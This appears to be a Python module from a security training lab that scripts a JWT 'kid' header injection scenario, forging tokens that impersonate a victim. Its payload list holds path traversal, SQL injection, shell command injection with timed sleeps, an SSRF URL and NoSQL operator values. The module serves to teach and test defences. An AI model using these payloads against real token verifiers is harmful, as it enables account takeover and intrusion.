"""What if the name of the key is a path, a query or a command?"""

from __future__ import annotations

import time
from collections.abc import Iterable

from lab.attacks.forged.forging import Forgery, parts_of
from lab.attacks.forged.guess_the_secret import hmac_signed
from lab.attacks.person import Person
from lab.attacks.scene import Scene

SLEEP_SECONDS = 10
# What `kid` says, and the secret that it would lead to.
NAMES: tuple[tuple[object, bytes], ...] = (
    ("../../../../../../dev/null", b""),
    ("file:///dev/null", b""),
    ("x' UNION SELECT 'mallory", b"mallory"),
    ("' OR '1'='1", b""),
    (f"|sleep {SLEEP_SECONDS}", b""),
    (f"$(sleep {SLEEP_SECONDS})", b""),
    ("http://127.0.0.1:9/keys.json", b""),
    ("k" * 2000, b""),
    (["mallory"], b""),
    ({"$ne": None}, b""),
)


class LeadTheKeyAstray(Forgery):
    """`kid` is the attacker's text, and somebody looks it up somewhere."""

    key = "lead-the-key-astray"
    title = "Inject through the key's name (kid)"
    catalogue = ("A08", "A09", "A10")
    story = (
        "Mallory writes a file's path, SQL, a shell command and other things into `kid`, and signs "
        "with what a careless look-up would find there."
    )
    gained = "The key's name was used as a path, a query or a command, and led to a key of hers."
    learned = "`kid` is compared with the names of the ring's keys, and is used for nothing else."

    def forged(self, scene: Scene, mallory: Person, victim: str) -> Iterable[tuple[str, str]]:
        own = mallory.access_token or ""
        header, claims, _ = parts_of(own)
        for kid, secret in NAMES:
            fields = header | {"kid": kid}
            began = time.monotonic()
            yield (
                f"`kid` is {str(kid)[:40]!r}.",
                hmac_signed(fields, claims | {"sub": victim}, secret, "HS256"),
            )
            if time.monotonic() - began >= SLEEP_SECONDS:
                yield "The command ran: the answer took its time. That is enough.", own
